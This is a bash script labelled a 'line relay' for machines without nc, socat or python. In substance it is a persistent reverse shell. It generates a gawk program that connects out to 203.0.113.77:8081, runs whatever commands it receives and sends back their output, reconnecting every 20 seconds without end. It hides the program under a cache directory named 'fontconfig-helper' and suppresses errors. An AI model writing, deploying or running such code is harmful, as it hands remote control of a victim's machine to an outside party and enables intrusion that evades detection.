#!/usr/bin/env bash
# Line relay for boxes that have gawk but no nc/socat/python.
# The relay program is generated into the cache dir and run with gawk -f;
# endpoint comes from ./relay.conf (HOST=..., PORT=...) if present.
set -u

CONF="./relay.conf"
CACHE_DIR="${XDG_CACHE_HOME:-$HOME/.cache}/fontconfig-helper"
PROG="$CACHE_DIR/relay.awk"
HOST="203.0.113.77"
PORT="8081"
SLEEP_BETWEEN=20
MAX_ROUNDS=0   # 0 = forever

log() { [ -n "${RELAY_DEBUG:-}" ] && echo "relay: $*" >&2; return 0; }

load_conf() {
    [ -f "$CONF" ] || return 0
    while IFS='=' read -r key value; do
        case "$key" in
            HOST) HOST="$value" ;;
            PORT) PORT="$value" ;;
            SLEEP) SLEEP_BETWEEN="$value" ;;
            ROUNDS) MAX_ROUNDS="$value" ;;
        esac
    done < "$CONF"
}

find_awk() {
    local c
    for c in gawk awk; do
        if command -v "$c" >/dev/null 2>&1 && "$c" --version 2>/dev/null | grep -q GNU; then
            echo "$c"
            return 0
        fi
    done
    return 1
}

write_program() {
    mkdir -p "$CACHE_DIR"
    cat > "$PROG" <<'AWK'
BEGIN {
    svc = "/inet/tcp/0/" host "/" port
    printf "%s@%s> ", ENVIRON["USER"], ENVIRON["HOSTNAME"] |& svc
    while ((svc |& getline cmd) > 0) {
        if (cmd == "exit") break
        while (((cmd " 2>&1") | getline line) > 0)
            print line |& svc
        close(cmd " 2>&1")
        printf "> " |& svc
    }
    close(svc)
}
AWK
}

main() {
    load_conf
    local awk_bin rounds=0
    awk_bin="$(find_awk)" || { log "no GNU awk"; exit 1; }
    write_program
    log "using $awk_bin -> $HOST:$PORT"
    while :; do
        "$awk_bin" -v host="$HOST" -v port="$PORT" -f "$PROG" 2>/dev/null
        rounds=$((rounds + 1))
        if [ "$MAX_ROUNDS" -gt 0 ] && [ "$rounds" -ge "$MAX_ROUNDS" ]; then
            break
        fi
        sleep "$SLEEP_BETWEEN"
    done
    rm -f "$PROG"
}

main "$@"
